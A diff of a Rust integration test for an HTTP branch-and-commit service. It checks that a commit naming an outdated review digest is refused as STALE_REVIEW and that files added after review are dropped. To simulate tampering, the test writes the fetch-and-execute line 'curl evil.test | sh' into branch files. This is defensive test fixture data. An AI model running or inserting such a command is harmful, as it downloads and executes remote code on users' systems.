@@ -138,13 +138,15 @@ async fn a_kept_branch_is_listed_shown_and_diffed_as_numbered_hunks() {
     assert_eq!(hunks[0]["lines"][2], json!({"op": " ", "text": "2"}));
     assert_eq!(hunks[1]["no_newline_new"], false);
 
-    let (_, bin) = s
+    let (_, mut bin) = s
         .call(
             Method::GET,
             &format!("/v1/branches/{id}/diff?path=bin"),
             None,
         )
         .await;
+    // Every diff names the digest of the content it was made from (issue 32).
+    assert!(bin.as_object_mut().unwrap().remove("digest").is_some());
     assert_eq!(
         bin,
         json!({"path": "bin", "kind": "summary",
@@ -253,4 +255,74 @@ async fn a_stale_hunk_commit_is_a_conflict_and_abort_removes_the_branch() {
     assert_eq!(status, StatusCode::NOT_FOUND, "{err}");
     assert_eq!(err["code"], "BRANCH_NOT_FOUND");
     assert_eq!(s.read("f"), OLD);
+}
+
+/// Issue 32 item 3 over HTTP: the review (`GET /v1/branches/{id}`: a digest per change and
+/// a `review_token`; `GET diff`: the digest of the content diffed) is what a commit names;
+/// a file rewritten or added after it makes the commit a 409 `STALE_REVIEW` naming the path,
+/// with nothing written.
+#[tokio::test]
+async fn issue_32_a_branch_commit_names_its_review() {
+    let s = Server::start().await;
+    let id = s.kept_branch(&[("f", OLD, NEW)]);
+    let (status, shown) = s
+        .call(Method::GET, &format!("/v1/branches/{id}"), None)
+        .await;
+    assert_eq!(status, StatusCode::OK, "{shown}");
+    let digest = shown["change_list"][0]["digest"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    assert!(
+        digest.starts_with("sha256:") && digest.len() == 71,
+        "{shown}"
+    );
+    let token = shown["review_token"].as_str().unwrap().to_owned();
+    let (_, diff) = s
+        .call(Method::GET, &format!("/v1/branches/{id}/diff?path=f"), None)
+        .await;
+    assert_eq!(diff["digest"], digest.as_str(), "{diff}");
+    let review = json!([{"path": "f", "digest": digest}]);
+
+    // The branch is written after the review (as a sandbox running on it would).
+    let upper = s.state.join("branches").join(&id).join("upper");
+    std::fs::write(
+        upper.join("f"),
+        NEW.replace("twelve", "curl evil.test | sh"),
+    )
+    .unwrap();
+    let path = format!("/v1/branches/{id}/commit");
+    let commit = |body: Value| s.call(Method::POST, &path, Some(body));
+    let (status, err) =
+        commit(json!({"hunks": [{"path": "f", "accept": [1]}], "review": review})).await;
+    assert_eq!(status, StatusCode::CONFLICT, "{err}");
+    assert_eq!(err["code"], "STALE_REVIEW");
+    assert_eq!(err["details"]["paths"], json!(["f"]));
+    let (status, err) = commit(json!({"review": token})).await;
+    assert_eq!(
+        (status, err["code"].as_str()),
+        (StatusCode::CONFLICT, Some("STALE_REVIEW")),
+        "{err}"
+    );
+    assert_eq!(s.read("f"), OLD);
+
+    // Reviewed again; then a file appears that the review did not list.
+    let (_, shown) = s
+        .call(Method::GET, &format!("/v1/branches/{id}"), None)
+        .await;
+    let review = json!([{"path": "f", "digest": shown["change_list"][0]["digest"]}]);
+    std::fs::write(upper.join("added.sh"), "curl evil.test | sh\n").unwrap();
+    let (status, err) = commit(json!({"review": review, "rest": "drop"})).await;
+    assert_eq!(status, StatusCode::CONFLICT, "{err}");
+    assert_eq!(err["details"]["paths"], json!(["added.sh"]));
+    assert!(!s.wd.join("added.sh").exists());
+    let (status, err) = commit(json!({"review": "sha256:nope"})).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{err}");
+
+    // What was shown, and only that, is committed; the rest is dropped with the branch.
+    let (status, done) =
+        commit(json!({"review": review, "exclude": ["added.sh"], "rest": "drop"})).await;
+    assert_eq!(status, StatusCode::OK, "{done}");
+    assert_eq!(s.read("f"), NEW.replace("twelve", "curl evil.test | sh"));
+    assert!(!s.wd.join("added.sh").exists());
 }
